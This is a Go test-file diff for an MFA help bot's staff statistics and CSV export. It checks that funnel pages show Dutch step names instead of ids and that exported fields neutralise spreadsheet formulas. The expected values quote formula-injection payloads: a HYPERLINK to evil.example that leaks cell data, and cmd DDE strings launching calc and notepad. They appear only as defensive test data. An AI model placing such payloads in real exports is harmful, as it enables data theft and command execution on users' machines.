@@ -3,13 +3,17 @@ package staff
 import (
 	"context"
 	"encoding/csv"
+	"html"
 	"net/http"
 	"net/url"
+	"regexp"
 	"strconv"
 	"strings"
 	"testing"
 	"time"
 
+	"mfabot/dialogs"
+	"mfabot/dialogs/texts"
 	"mfabot/handoff"
 	"mfabot/store"
 )
@@ -226,15 +230,19 @@ func TestCSVExportNeutralisesFormulas(t *testing.T) {
 		t.Fatal("exported escalation not found")
 	}
 	for field, want := range map[string]string{
-		"student_naam":      `'=HYPERLINK("http://evil.example/?"&A1,"klik")`,
-		"student_upn":       "'+31612345678@student.example",
-		"student_object_id": "'@SUM(1+1)*cmd|' /C calc'!A0",
-		"mislukte_stap":     "'-2+3",
-		"reden":             "'\t=1+1",
-		"methoden":          "Mobiel, \"privé\"; Authenticator\nmet nieuwe regel",
-		"notitie":           "'=cmd|' /C notepad'!A1",
-		"situatie":          "lost_phone",
-		"status":            "resolved",
+		"student_naam":       `'=HYPERLINK("http://evil.example/?"&A1,"klik")`,
+		"student_upn":        "'+31612345678@student.example",
+		"student_object_id":  "'@SUM(1+1)*cmd|' /C calc'!A0",
+		"mislukte_stap":      "'-2+3",
+		"reden":              "'\t=1+1",
+		"methoden":           "Mobiel, \"privé\"; Authenticator\nmet nieuwe regel",
+		"notitie":            "'=cmd|' /C notepad'!A1",
+		"situatie":           "lost_phone",
+		"situatie_naam":      "Telefoon kwijt of kapot",
+		"mislukte_stap_naam": "'-2+3",
+		"reden_naam":         "'\t=1+1",
+		"status":             "resolved",
+		"status_naam":        "Opgelost",
 	} {
 		if got := row[col[field]]; got != want {
 			t.Errorf("%s = %q, want %q", field, got, want)
@@ -350,6 +358,64 @@ func TestStatisticsPage(t *testing.T) {
 	} {
 		if !strings.Contains(body, want) {
 			t.Errorf("stats page lacks %q", want)
+		}
+	}
+}
+
+// The funnel of the real flow names every step as staff name it (the
+// staff card's names): the table, the drop-off chart and the CSV, whose
+// last column keeps the id.
+func TestFunnelShowsStepNamesNotIDs(t *testing.T) {
+	steps := dialogs.StepOrder()
+	e := newDevEnv(t, steps)
+	ctx := context.Background()
+	at := time.Now().UTC().Add(-time.Hour)
+	for i, step := range steps {
+		conv := "conv-" + strconv.Itoa(i)
+		for _, ev := range []string{"shown", "failed"} {
+			if err := e.st.RecordStepEvent(ctx, store.StepEvent{ConversationID: conv, UserID: "u-" + conv, Step: step, Event: ev, At: at}); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+	c := e.devSignIn(t, "Ine")
+	_, body := get(t, c, e.srv.URL+"/staff/stats")
+	table := body[strings.Index(body, `<table class="funnel">`):]
+	table = table[:strings.Index(table, "</table>")]
+	rows := regexp.MustCompile(`<th scope="row">([^<]*)</th>`).FindAllStringSubmatch(table, -1)
+	if len(rows) != len(steps) {
+		t.Fatalf("funnel has %d rows, want %d (one per step)", len(rows), len(steps))
+	}
+	for i, id := range steps {
+		want := html.EscapeString(texts.Step("nl", id))
+		if got := rows[i][1]; got != want || got == id {
+			t.Errorf("funnel row %d = %q, want %q (step %s)", i, got, want, id)
+		}
+	}
+	for _, want := range []string{">Stap 7: Voeg je schoolaccount toe<", ">Nieuwe telefoon niet gevonden bij de controle<",
+		">Controle: oude telefoon verwijderd<", ">Doorgezet naar de servicedesk<", ">Gestopt<", ">Begin: situatie kiezen<"} {
+		if !strings.Contains(body, want) {
+			t.Errorf("stats page lacks %q", want)
+		}
+	}
+	// No id is shown as text anywhere on the page (the chart included).
+	for _, id := range steps {
+		if strings.Contains(body, ">"+id+"<") || strings.Contains(body, "Meeste uitval: "+id+" ") {
+			t.Errorf("stats page shows the id %q", id)
+		}
+	}
+
+	_, csvBody := get(t, c, e.srv.URL+"/staff/stats.csv?days=7")
+	recs, err := csv.NewReader(strings.NewReader(csvBody[strings.Index(csvBody, "stap,"):])).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(recs) != len(steps)+1 || strings.Join(recs[0], ",") != "stap,bereikt,mislukt,uitval_procent,stap_id" {
+		t.Fatalf("csv funnel %v", recs)
+	}
+	for i, id := range steps {
+		if rec := recs[i+1]; rec[0] != texts.Step("nl", id) || rec[4] != id {
+			t.Errorf("csv row %v, want the name %q and the id %q", rec, texts.Step("nl", id), id)
 		}
 	}
 }
